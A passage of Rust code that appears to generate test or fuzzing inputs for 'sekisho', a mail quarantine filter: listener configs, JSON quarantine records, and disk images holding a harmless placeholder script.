        "[[listener]]\nkind = \"milter\"\nlisten = \"unix:milter.sock\"\nrelease_to = \"127.0.0.1:10026\"\n[[listener]]\nkind = \"lmtp\"\nmode = \"after-queue\"\n",
    ];
    [shipped, uncommented.into_bytes()].into_iter().chain(rules.iter().map(|text| text.as_bytes().to_vec())).collect()
}

fn entries() -> Vec<Vec<u8>> {
    let entry = serde_json::json!({
        "schema": "sekisho.quarantine/1", "id": sekisho::store::QuarantineId::new(jiff::Timestamp::UNIX_EPOCH).as_str(),
        "state": "held", "received_at": "2026-11-20T01:00:00Z", "held_at": "2026-11-20T01:00:00.5Z", "ended_at": null,
        "verdict": "malicious", "complete": true, "rule": "default", "line": 3,
        "explanation": {"en": "a", "ja": "b"}, "size": 10, "sha256": "00", "message_id": "<1@x>", "subject": null, "from": "a",
        "envelope": sekisho::envelope::Envelope::default(), "held": [], "listener": "127.0.0.1:10025",
        "mode": "before-queue", "next_hop": "127.0.0.1:10026", "release": null,
        "notes": [{"at": "2026-11-20T01:00:00Z", "text": "n"}], "facts": {"version": 1}, "later": [1, {"a": 1.5}],
    });
    let mut released = entry.clone();
    released["state"] = "releasing".into();
    released["release"] = serde_json::json!({
        "started_at": "2026-11-20T01:00:00Z", "by": "uid 0", "next_hop": "x", "dot_sent_at": null,
        "refused": [], "reply": "250 ok",
    });
    let id = entry["id"].as_str().unwrap_or_default().as_bytes().to_vec();
    vec![serde_json::to_vec(&entry).unwrap(), serde_json::to_vec(&released).unwrap(), id, b"held".to_vec()]
}

/// Discs without their first 32 KiB, and disks.
fn images() -> Vec<Vec<u8>> {
    let disc = images::iso(&[("a.js", b"WScript.Echo(1)"), ("b.txt", b"text")], true);
    let floppy =
        images::floppy("a.js", b"WScript.Echo(1)").get(..20 * 512 + 8192).map(<[u8]>::to_vec).unwrap_or_default();
    let vhd = images::fixed_vhd(&floppy);
    vec![[&[0], &disc[32768..]].concat(), [&[1], floppy.as_slice()].concat(), [&[1], vhd.as_slice()].concat()]
}
